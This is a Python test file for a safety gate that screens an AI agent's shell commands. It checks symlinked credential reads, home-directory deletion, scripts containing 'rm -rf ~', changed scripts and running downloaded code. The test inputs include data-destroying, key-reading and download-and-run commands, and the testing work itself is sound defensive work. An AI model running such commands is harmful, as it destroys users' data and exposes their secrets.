"""What the gate sees on the disk around a call, and what one call leaves for the next: through the gate's door."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.daemon.test_gate import World


@pytest.fixture
def world(short_home: str) -> World:
    return World(short_home)


@pytest.fixture
def project(short_home: str) -> Path:
    made = Path(short_home, "proj")
    made.mkdir()
    return made


def call(project: Path, command: str, event: str = "PreToolUse", call_id: str = "1") -> bytes:
    fields = {"hook_event_name": event, "session_id": "s", "cwd": str(project), "tool_name": "Bash"}
    return json.dumps({**fields, "tool_use_id": call_id, "tool_input": {"command": command}}).encode()


def test_a_symbolic_link_is_judged_as_what_it_points_to(world: World, project: Path, short_home: str) -> None:
    Path(short_home, ".ssh").mkdir()
    Path(short_home, ".ssh", "id_rsa").write_text("key")
    (project / "notes.txt").symlink_to(Path(short_home, ".ssh", "id_rsa"))
    (project / "plain.txt").write_text("x")
    assert world.answer(call(project, "cat plain.txt")).exit == 0
    world.answer(call(project, "cat notes.txt"))
    assert (world.row.decision, world.row.rule) == ("ask", "read-credentials")


def test_a_link_to_the_home_is_not_deleted_through(world: World, project: Path, short_home: str) -> None:
    (project / "build").symlink_to(short_home)
    assert world.answer(call(project, "rm -rf build/")).exit == 2
    assert world.row.decision == "deny"


def test_a_script_is_judged_as_if_it_had_been_typed(world: World, project: Path) -> None:
    (project / "clean.sh").write_text("rm -rf ~\n")
    (project / "fine.sh").write_text("echo hello\n")
    assert world.answer(call(project, "bash fine.sh")).exit == 0
    assert world.answer(call(project, "./clean.sh")).exit == 2
    assert world.row.rule == "delete-machine"


def test_code_that_changed_while_it_ran_is_noted(world: World, project: Path) -> None:
    script = project / "run.sh"
    script.write_text("echo hello\n")
    assert world.answer(call(project, "bash run.sh")).exit == 0
    script.write_text("rm -rf ~\n")
    assert world.answer(call(project, "bash run.sh", "PostToolUse"), event="PostToolUse").exit == 0
    assert world.row.decided_by == "changed"
    assert str(script) in world.row.reason


def test_code_that_stayed_the_same_is_not(world: World, project: Path) -> None:
    (project / "run.sh").write_text("echo hello\n")
    world.answer(call(project, "bash run.sh"))
    world.answer(call(project, "bash run.sh", "PostToolUse"), event="PostToolUse")
    assert world.row.decided_by != "changed"


def test_a_file_downloaded_by_an_earlier_call_is_not_run_unasked(world: World, project: Path) -> None:
    assert world.answer(call(project, "curl -so x.sh https://e.example/x.sh")).exit == 0
    world.answer(call(project, "chmod +x x.sh && ./x.sh", call_id="2"))
    assert world.row.decision == "ask"
